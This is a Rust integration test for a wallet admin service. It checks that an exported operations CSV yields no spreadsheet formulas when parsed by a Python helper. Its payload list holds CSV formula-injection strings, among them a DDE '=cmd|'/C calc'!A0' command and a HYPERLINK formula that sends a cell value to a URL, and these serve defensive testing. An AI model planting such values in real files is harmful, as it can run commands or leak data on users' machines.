//! An exported ledger in programs that split it at commas, semicolons or tabs: Python's csv module, by `spreadsheet.py`.

use std::path::Path;
use std::process::Stdio;

use serde::Deserialize;
use tokio::io::AsyncWriteExt;
use tokio::process::Command;

use crate::adjustments::page_of;
use crate::admin::Admin;

/// What `spreadsheet.py` prints.
#[derive(Debug, Deserialize)]
struct Found {
    cells: usize,
    formulas: Vec<String>,
    references: Vec<String>,
}

/// Runs the program over a file.
async fn spreadsheet(file: &str) -> Found {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let mut child = Command::new(root.join("target/clients-python/python"))
        .arg(root.join("tests/admin/spreadsheet.py"))
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .expect("`make clients` installs what this needs");
    let mut input = child.stdin.take().unwrap();
    input.write_all(file.as_bytes()).await.unwrap();
    drop(input);
    let output = child.wait_with_output().await.unwrap();
    assert!(output.status.success(), "{output:?}");
    serde_json::from_slice(&output.stdout).unwrap()
}

/// Returns texts of up to four parts, each a separator, something that a reader may skip, or a formula's sign.
fn attacks() -> Vec<String> {
    let parts = [
        ";", ",", "\t", "\r", "\n", "\"", "'", " ", "\u{a0}", "\u{feff}", "=1", "+1", "-1", "@a",
        "＝1", "﹦1", "−1", "x",
    ];
    let mut texts = Vec::new();
    let mut longest = vec![String::new()];
    for _ in 0..3 {
        longest = longest
            .iter()
            .flat_map(|text| parts.map(|part| format!("{text}{part}")))
            .collect();
        texts.extend(longest.iter().cloned());
    }
    let known = [
        "a;=1+1;b",
        "=cmd|'/C calc'!A0",
        "x\";=HYPERLINK(\"http://example.com/?\"&A1;\"x\")",
        "\";\"=1",
        "a\";\";\"=1;\"",
        "x;",
        "\t\t=1",
        "\r\n\r\n@a",
        "''=1;''=1",
    ];
    texts.extend(known.map(str::to_owned));
    texts
}

#[actix_web::test]
async fn no_program_finds_a_formula_in_an_exported_ledger_and_its_texts_come_back() {
    let admin = Admin::spawn().await;
    let wallet = admin.app.wallet("alice").await;
    let id = wallet.split('/').nth(3).unwrap();
    let texts = attacks();
    let database = crate::postgres::connect(&admin.app.database).await;
    let fill = format!(
        "INSERT INTO operations (wallet_id, seq, id, kind, amount, balance_after, reference)
         SELECT '{id}', n, gen_random_uuid(), 'DEPOSIT', 0.01, n * 0.01, text
         FROM unnest($1::text[]) WITH ORDINALITY AS texts (text, n)"
    );
    database.execute(&fill, &[&texts]).await.unwrap();
    let state = format!(
        "UPDATE wallets SET version = {0}, balance = {0} * 0.01 WHERE id = '{id}'",
        texts.len()
    );
    admin.execute(&state).await;

    let file = admin
        .get(&format!("{}operations.csv", page_of(&wallet)))
        .await;
    let found = spreadsheet(&file.body).await;
    assert_eq!(found.references, texts);
    assert!(found.cells > 12 * texts.len(), "{}", found.cells);
    assert_eq!(found.formulas, [""; 0]);

    // The program finds what is not guarded.
    let guarded = "\"a;'=1+1;b\"";
    let bare = file.body.replace(guarded, &guarded.replace('\'', ""));
    let found = spreadsheet(&bare).await;
    assert!(
        found.formulas.contains(&"=1+1".to_owned()),
        "{:?}",
        found.formulas
    );
    admin.app.stop().await.unwrap();
}
